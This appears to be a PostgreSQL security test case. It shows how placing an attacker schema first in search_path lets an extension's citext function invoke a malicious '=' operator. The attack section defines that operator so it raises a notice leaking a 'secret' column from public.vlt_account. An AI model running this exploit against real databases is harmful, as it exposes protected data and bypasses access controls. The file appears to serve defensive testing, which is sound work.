-- Has a function of an extension run an operator that comes before PostgreSQL's in the search path.
-- wants: read
-- until: 15
-- setup:
CREATE EXTENSION citext SCHEMA public;
-- attack:
CREATE SCHEMA first;
CREATE FUNCTION first.same(int, int) RETURNS boolean LANGUAGE plpgsql AS $$
  BEGIN RAISE NOTICE '%', (SELECT pg_catalog.max(secret) FROM public.vlt_account); RETURN true; END $$;
CREATE OPERATOR first.= (LEFTARG = int, RIGHTARG = int, FUNCTION = first.same);
SET search_path = first, pg_catalog, public;
SELECT regexp_replace('a'::citext, 'b'::citext, 'c', 'g');
